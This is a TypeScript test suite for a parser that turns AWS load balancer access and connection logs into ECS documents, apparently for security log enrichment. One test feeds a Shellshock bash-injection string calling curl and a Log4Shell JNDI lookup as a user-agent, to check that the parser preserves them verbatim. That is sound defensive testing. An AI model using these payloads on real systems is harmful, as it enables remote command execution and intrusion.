import assert from "node:assert/strict";
import { Pair } from "../enrichment/enricher";
import { Enrichment } from "../enrichment/enrichment";
import { alb } from "./alb";
import { assertHolds } from "./fuzzing";
import { CONTEXT, documentsOf, enrichmentOf, Json } from "./testing";

const AGENT = '"Mozilla/5.0 \\"quoted\\" \\\\ back"';
const FIELDS = [
    "https 2026-11-24T13:31:01.186641Z app/shop/50dc6c495c0c9188 203.0.113.9:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 34 366",
    `"GET https://Shop.example:443/a/b.php?q=1 HTTP/1.1" ${AGENT} ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2`,
    "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/73e2d6bc24d8a067",
    '"Root=1-58337281-1d84f3d73c47ec4e58577259" "sni.example" "arn:aws:acm:eu-west-1:123456789012:certificate/1" 1',
    '2026-11-24T13:31:01.100000Z "waf,forward" "-" "-" "10.0.0.1:80" "200" "-" "-"',
];
/** As written since 2024 and 2025: connection trace, rewritten host and path, the node's address. */
const NEWER = 'TID_1234abcd5678ef90 "-" "-" "-" 192.0.2.7';
const LINE = FIELDS.join(" ");
const NLB =
    "tls 2.0 2026-11-24T13:31:01 net/edge/c6e77e28c25b2234 g3d4b5e8bb8464cd 203.0.113.9:51341 192.0.2.2:443 5 2 98 246 - " +
    "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - ECDHE-RSA-AES128-SHA tlsv12 - sni.example - - - 2026-11-24T13:31:00";

const CLASSIC =
    "2026-11-24T13:31:01.945958Z my-balancer 203.0.113.9:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 " +
    '"GET http://shop.example:80/a HTTP/1.1" "curl/8.5.0" - -';
const CLASSIC_TCP =
    "2026-11-24T13:31:01.945958Z my-balancer 203.0.113.9:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 " +
    '"- - - " "-" ECDHE-ECDSA-AES128-GCM-SHA256 TLSv1.2';
const CONNECTION =
    "2026-11-24T13:31:01.514108Z 203.0.113.9 36280 443 TLSv1.3 TLS_AES_128_GCM_SHA256 4.036 " +
    '"CN=client.example,O=Shop" NotBefore=2026-09-21T22:43:21Z;NotAfter=2027-06-17T22:43:21Z FEF257372D5C14D4 ' +
    "Failed:ClientCertUntrusted TID_3180a73013c8ca4bac2f731159d4b0fe";

async function one(line: string): Promise<Json> {
    const { documents, quarantined } = await documentsOf(alb(), `${line}\n`);
    assert.deepEqual(quarantined, []);
    return documents[0];
}

describe("alb", () => {
    it("makes the ECS document of a line", async () => {
        const { event, ecs, source, http, url, user_agent: agent, tls, related, aws } = await one(LINE);
        assert.equal(ecs.version, "8.11.0");
        assert.deepEqual([event.dataset, event.kind, event.category], ["aws.elb_logs", "event", ["web"]]);
        assert.deepEqual([event.outcome, event.end], ["success", "2026-11-24T13:31:01.186Z"]);
        assert.deepEqual([source.ip, source.port], ["203.0.113.9", 2817]);
        assert.equal(http.request.method, "GET");
        assert.equal(http.response.status_code, 200);
        assert.deepEqual(
            [url.domain, url.port, url.path, url.query, url.scheme],
            ["Shop.example", 443, "/a/b.php", "q=1", "https"],
        );
        assert.equal(agent.original, 'Mozilla/5.0 "quoted" \\ back', "the log's own escapes are undone");
        assert.deepEqual([tls.cipher, tls.version], ["ECDHE-RSA-AES128-GCM-SHA256", "1.2"]);
        assert.deepEqual(related.ip, ["203.0.113.9", "10.0.0.1"]);
        assert.deepEqual(related.hosts, ["shop.example", "sni.example"]);
        assert.equal(aws.elb.name, "app/shop/50dc6c495c0c9188");
        assert.equal(aws.elb.request_processing_time.sec, 0.086);
        assert.deepEqual(aws.elb.action_executed, ["waf", "forward"]);
    });

    it("takes lines that are older or newer, by position", async () => {
        const { aws, source } = await one(`${LINE} ${NEWER} "of a later year"`);
        assert.equal(aws.elb.conn_trace_id, "TID_1234abcd5678ef90");
        assert.equal(aws.elb.ip_address, "192.0.2.7");
        assert.equal(source.ip, "203.0.113.9");
    });

    it("stands requests that are none, targets that never were, and IPv6 clients", async () => {
        const line = LINE.replace(
            "203.0.113.9:2817 10.0.0.1:80 0.086 0.048 0.037",
            "2001:db8::9:2817 - -1 -1 -1",
        )
            .replace(/"GET [^"]*"/, '"- - -"')
            .replace(AGENT, '"-"')
            .replace("200 200 34", "400 - 34");
        const { source, url, user_agent: agent, event, http } = await one(line);
        assert.deepEqual([source.ip, source.port], ["2001:db8::9", 2817]);
        assert.deepEqual([url, agent, event.outcome], [undefined, undefined, "failure"]);
        assert.equal(http.response.status_code, 400);
        for (const type of ["http", "h2", "grpcs", "ws", "wss"]) {
            assert.equal((await one(LINE.replace("https", type))).aws.elb.type, type);
        }
    });

    it("writes every field under the names that Elastic and ECS have for it", async () => {
        const line = LINE.replace('"-" "-" "10.0.0.1:80" "200" "-" "-"', "")
            .concat('"https://x.example:443/" "LambdaInvalidResponse" "10.0.0.1:80 10.0.0.2:80" "502 -" ')
            .concat(`"Ambiguous" "UndefinedContentLengthSemantics" ${NEWER}`)
            .replace('"-" "-" "-" 192', '"in.example" "/new?q" "TransformSuccess" 192');
        const { event, source, http, destination, tls, trace, cloud, aws } = await one(line);
        assert.equal(event.start, "2026-11-24T13:31:01.100000Z");
        assert.deepEqual(source, { address: "203.0.113.9", ip: "203.0.113.9", port: 2817 });
        assert.deepEqual(http, {
            request: { method: "GET", body: { bytes: 34 } },
            response: { status_code: 200, body: { bytes: 366 } },
            version: "1.1",
        });
        assert.deepEqual(destination, { domain: "sni.example" });
        assert.deepEqual(tls, {
            cipher: "ECDHE-RSA-AES128-GCM-SHA256",
            version: "1.2",
            version_protocol: "tls",
            client: { server_name: "sni.example" },
        });
        assert.deepEqual(trace, { id: "Root=1-58337281-1d84f3d73c47ec4e58577259" });
        assert.deepEqual(cloud, { provider: "aws", account: { id: "222222222222" }, region: "eu-west-1" });
        assert.deepEqual(aws.elb, {
            protocol: "http",
            type: "https",
            name: "app/shop/50dc6c495c0c9188",
            trace_id: "Root=1-58337281-1d84f3d73c47ec4e58577259",
            matched_rule_priority: "1",
            redirect_url: "https://x.example:443/",
            classification: "Ambiguous",
            classification_reason: "UndefinedContentLengthSemantics",
            conn_trace_id: "TID_1234abcd5678ef90",
            transformed_host: "in.example",
            transformed_uri: "/new?q",
            request_transform_status: "TransformSuccess",
            ip_address: "192.0.2.7",
            backend: { ip: "10.0.0.1", port: "80", http: { response: { status_code: 200 } } },
            request_processing_time: { sec: 0.086 },
            backend_processing_time: { sec: 0.048 },
            response_processing_time: { sec: 0.037 },
            ssl_cipher: "ECDHE-RSA-AES128-GCM-SHA256",
            ssl_protocol: "TLSv1.2",
            target_group: {
                arn: "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/73e2d6bc24d8a067",
            },
            chosen_cert: { arn: "arn:aws:acm:eu-west-1:123456789012:certificate/1" },
            error: { reason: "LambdaInvalidResponse" },
            action_executed: ["waf", "forward"],
            target_port: ["10.0.0.1:80", "10.0.0.2:80"],
            target_status_code: ["502", "-"],
        });
    });

    it("reads the URL of a request that the load balancer refused", async () => {
        const { url, http } = await one(LINE.replace(/"GET [^"]*"/, '"- http://shop.example:80-/ "'));
        assert.deepEqual(url, {
            original: "http://shop.example:80-/",
            scheme: "http",
            domain: "shop.example",
            path: "/",
        });
        assert.equal(http.request.method, undefined);
    });

    it("reads bracketed IPv6 clients, and the account and region that the key names", async () => {
        const origin = "AWSLogs/333333333333/elasticloadbalancing/us-east-2/2026/11/24/x.log.gz";
        const { documents } = await documentsOf(
            alb(),
            LINE.replace("203.0.113.9:2817", "[2001:db8::9]:2817"),
            {
                context: { ...CONTEXT, origin },
            },
        );
        const [{ source, cloud }] = documents;
        assert.deepEqual([source.ip, source.port], ["2001:db8::9", 2817]);
        assert.deepEqual([cloud.account.id, cloud.region], ["333333333333", "us-east-2"]);
    });

    it("keeps the line when that is wished for", async () => {
        const enrichment = new Enrichment({ keepOriginal: true });
        const { documents } = await documentsOf(alb(), LINE, { enrichment });
        assert.equal(documents[0].event.original, LINE);
    });

    it("scores who connects to a host, or to the load balancer", async () => {
        const pairs: Pair[] = [];
        const scorer = {
            name: "test",
            score: async (asked: readonly Pair[]) => {
                pairs.push(...asked);
                return asked.map(() => 1);
            },
        };
        const enrichment = new Enrichment({ scorer });
        await documentsOf(alb(), `${LINE}\n${LINE.replace(/"GET [^"]*"/, '"- - -"')}`, { enrichment });
        assert.deepEqual(pairs, [
            { entity: "shop.example", ip: "203.0.113.9" },
            { entity: "app/shop/50dc6c495c0c9188", ip: "203.0.113.9" },
        ]);
    });

    it("lets attacks through as they came", async () => {
        const attack = '() { :;}; /bin/bash -c \\"curl \\x22evil\\x22\\" ${jndi:ldap://x} é';
        const { user_agent: agent } = await one(LINE.replace(AGENT, `"${attack}"`));
        assert.equal(agent.original, '() { :;}; /bin/bash -c "curl \\x22evil\\x22" ${jndi:ldap://x} é');
    });

    const SHOWN = [
        { type: "ipv4", value: "203.0.113.9", field: "source.ip" },
        { type: "cidr", value: "10.0.0.0/24", field: "aws.elb.backend.ip" },
        { type: "domain", value: "shop.example", field: "url.domain" },
        { type: "domain", value: "sni.example", field: "destination.domain" },
        { type: "url", value: "https://shop.example/a/b.php?q=1", field: "url.original" },
    ] as const;
    for (const { type, value, field } of SHOWN) {
        it(`matches the ${type} that it shows in ${field}`, async () => {
            const { documents } = await documentsOf(alb(), LINE, {
                enrichment: enrichmentOf({ type, value }),
            });
            assert.equal(documents[0].threat.matched, true);
            assert.equal(documents[0].threat.enrichments[0].indicator.name, value);
            assert.equal(documents[0].threat.enrichments[0].matched.field, field);
        });
    }

    it("quarantines what is no such line", async () => {
        const bad = [
            "short",
            LINE.replace("2026-11-24T13:31:01.186641Z", "yesterday"),
            LINE.replace("203.0.113.9", "client"),
            LINE.replace("200 200", "fine 200"),
            LINE.slice(0, LINE.indexOf("quoted")),
            LINE.split(" ").slice(0, 12).join(" "),
        ];
        const { quarantined, report } = await documentsOf(alb(), [LINE, ...bad, LINE].join("\n"));
        assert.equal(report.documents, 2);
        assert.deepEqual(
            quarantined.map(({ record }) => record),
            [2, 3, 4, 5, 6, 7],
        );
    });

    it("holds whatever is broken or cut", async function () {
        this.timeout(60_000);
        await assertHolds(alb(), [LINE, `${LINE} ${NEWER}`, NLB, CLASSIC, CLASSIC_TCP, CONNECTION]);
    });
});

describe("alb, of classic load balancers", () => {
    it("reads requests", async () => {
        const { source, http, url, aws, event } = await one(CLASSIC);
        assert.deepEqual([event.category, event.outcome], [["web"], "success"]);
        assert.deepEqual([source.ip, http.request.method, url.path], ["203.0.113.9", "GET", "/a"]);
        assert.deepEqual([aws.elb.name, aws.elb.protocol, aws.elb.type], ["my-balancer", "http", undefined]);
    });

    it("reads connections", async () => {
        const { source, destination, http, tls, aws, event } = await one(CLASSIC_TCP);
        assert.deepEqual([event.category, event.outcome, http], [["network"], undefined, undefined]);
        assert.deepEqual([source.bytes, destination.bytes], [82, 305]);
        assert.deepEqual([tls.version, aws.elb.protocol], ["1.2", "tcp"]);
    });
});

describe("alb, connection logs", () => {
    it("reads a client's certificate and whether it was good", async () => {
        const { client, tls, aws, event } = await one(CONNECTION);
        assert.deepEqual([event.category, event.end], [["network"], "2026-11-24T13:31:01.514Z"]);
        assert.deepEqual(client, { address: "203.0.113.9", ip: "203.0.113.9", port: 36280 });
        assert.deepEqual([tls.version, tls.cipher], ["1.3", "TLS_AES_128_GCM_SHA256"]);
        assert.deepEqual(aws.elb, {
            protocol: "tcp",
            listener: "443",
            leaf_client_cert_subject: "CN=client.example,O=Shop",
            leaf_client_cert_serial_number: "FEF257372D5C14D4",
            leaf_client_cert_not_before: "2026-09-21T22:43:21.000Z",
            leaf_client_cert_not_after: "2027-06-17T22:43:21.000Z",
            conn_trace_id: "TID_3180a73013c8ca4bac2f731159d4b0fe",
            ssl_cipher: "TLS_AES_128_GCM_SHA256",
            ssl_protocol: "TLSv1.3",
            tls_handshake_latency: 4.036,
            tls_verify_status: "Failed",
            tls_error_code: "ClientCertUntrusted",
        });
    });

    it("reads one without TLS, from IPv6", async () => {
        const { client, tls, aws } = await one(
            '2026-11-24T13:31:01.514108Z 2001:db8::9 58206 80 - - - "-" - - - TID_16132ed0b4112148',
        );
        assert.deepEqual([client.ip, tls], ["2001:db8::9", undefined]);
        assert.deepEqual(aws.elb, {
            protocol: "tcp",
            listener: "80",
            conn_trace_id: "TID_16132ed0b4112148",
        });
    });

    it("quarantines one without an address", async () => {
        const { quarantined } = await documentsOf(alb(), CONNECTION.replace("203.0.113.9", "203.0.113.999"));
        assert.equal(quarantined[0].reason, "no client address");
    });
});

describe("nlb", () => {
    it("makes the ECS document of a TLS line", async () => {
        const { source, tls, aws, related } = await one(NLB);
        assert.deepEqual([source.ip, source.port], ["203.0.113.9", 51341]);
        assert.deepEqual([tls.cipher, tls.version], ["ECDHE-RSA-AES128-SHA", "1.2"]);
        assert.equal(aws.elb.name, "net/edge/c6e77e28c25b2234");
        assert.ok(related.hosts.includes("sni.example"));
    });

    it("writes every field", async () => {
        const line = NLB.replace("246 - arn", "246 48 arn")
            .replace("2a108f19 -", "2a108f19 0a1b")
            .replace("tlsv12 -", "tlsv12 P-256");
        const { source, destination, tls, aws, event } = await one(
            line.replace("- - - 2026", 'h2 h2 "h2","http/1.1" 2026'),
        );
        assert.deepEqual([event.category, event.kind], [["network"], "event"]);
        assert.deepEqual([source.bytes, destination], [98, { bytes: 246, domain: "sni.example" }]);
        assert.deepEqual(tls.client, { server_name: "sni.example" });
        assert.deepEqual(aws.elb, {
            protocol: "tcp",
            type: "tls",
            name: "net/edge/c6e77e28c25b2234",
            listener: "g3d4b5e8bb8464cd",
            incoming_tls_alert: "48",
            ssl_named_group: "P-256",
            alpn_fe_protocol: "h2",
            alpn_be_protocol: "h2",
            alpn_client_preference_list: 'h2","http/1.1',
            ssl_cipher: "ECDHE-RSA-AES128-SHA",
            ssl_protocol: "tlsv12",
            backend: { ip: "192.0.2.2", port: "443" },
            connection_time: { ms: 5 },
            tls_handshake_time: { ms: 2 },
            chosen_cert: {
                arn: "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19",
                serial: "0a1b",
            },
            tls_connection_creation_time: "2026-11-24T13:31:00.000Z",
        });
    });

    it("reads a connection that never got as far as TLS", async () => {
        const { source, tls, aws, related } = await one(
            "tls 2.0 2026-11-24T13:31:01 net/edge/c6e7 5287 [2001:db8::9]:51341 - 0 - 0 0 - - - - - - - - - - -",
        );
        assert.deepEqual([source.ip, source.port, tls], ["2001:db8::9", 51341, undefined]);
        assert.deepEqual([aws.elb.connection_time, aws.elb.backend], [{ ms: 0 }, undefined]);
        assert.deepEqual(related, { ip: ["2001:db8::9"] });
    });

    for (const { type, value } of [
        { type: "ipv4", value: "203.0.113.9" },
        { type: "ipv4", value: "192.0.2.2" },
        { type: "domain", value: "sni.example" },
    ] as const) {
        it(`matches ${value}`, async () => {
            const enrichment = enrichmentOf({ type, value });
            const { documents } = await documentsOf(alb(), NLB, { enrichment });
            assert.equal(documents[0].threat.matched, true);
        });
    }

    it("quarantines what lacks a time or a client", async () => {
        const bad = [
            NLB.replace("2026-11-24T13:31:01 ", "- "),
            NLB.replace("203.0.113.9:51341", "-"),
            "tls 2.0 x",
        ];
        const { quarantined, report } = await documentsOf(alb(), [NLB, ...bad, NLB].join("\n"));
        assert.equal(report.documents, 2);
        assert.deepEqual(
            quarantined.map(({ reason }) => reason),
            ["no time", "no client address", "only 3 fields"],
        );
    });
});
